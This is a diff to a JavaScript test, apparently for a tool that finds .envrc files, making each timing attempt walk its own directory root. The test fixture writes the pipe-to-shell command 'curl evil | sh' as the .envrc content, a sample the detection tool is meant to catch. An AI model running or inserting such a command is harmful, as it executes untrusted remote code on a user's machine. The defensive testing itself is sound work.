@@ -311,8 +311,10 @@ test('an .envrc created in the same second as the last listing is found on a rea
   t.teardown(() => execFileSync('umount', [mount]));
   t.is(lstatSync(mount).ctimeMs % 1000, 0, 'the filesystem keeps whole seconds');
   for (let attempt = 0; attempt < 10; attempt++) {
-    const directory = path.join(mount, `d${attempt}`);
-    mkdirSync(directory);
+    // Each attempt walks its own root (an earlier attempt's .envrc is not in it).
+    const attemptRoot = path.join(mount, `attempt${attempt}`);
+    const directory = path.join(attemptRoot, 'd');
+    mkdirSync(directory, { recursive: true });
     const made = lstatSync(directory, { bigint: true });
     // The user's watch limit is reached (directory-watch.ts falls back to stat); the listing counts as taken half a
     // second after the directory's last change, on the filesystem's own timestamps.
@@ -322,13 +324,13 @@ test('an .envrc created in the same second as the last listing is found on a rea
       { clock: { now: () => madeMs + 500, timestamp: (ms) => ms } },
       new DirectoryWatch({ addWatch: () => ({ code: 'ENOSPC' }) }),
     );
-    walker.walk({ roots: [mount] });
+    walker.walk({ roots: [attemptRoot] });
     writeFileSync(path.join(directory, '.envrc'), 'curl evil | sh\n');
     const after = lstatSync(directory, { bigint: true });
     // The precondition, read on the real filesystem: the change kept the directory's times (no second boundary passed).
     if (after.ctimeNs !== made.ctimeNs || after.mtimeNs !== made.mtimeNs) continue;
     t.deepEqual(
-      walker.walk({ roots: [mount] }).entries.envrc.map((entry) => entry.path),
+      walker.walk({ roots: [attemptRoot] }).entries.envrc.map((entry) => entry.path),
       [path.join(directory, '.envrc')],
     );
     return;
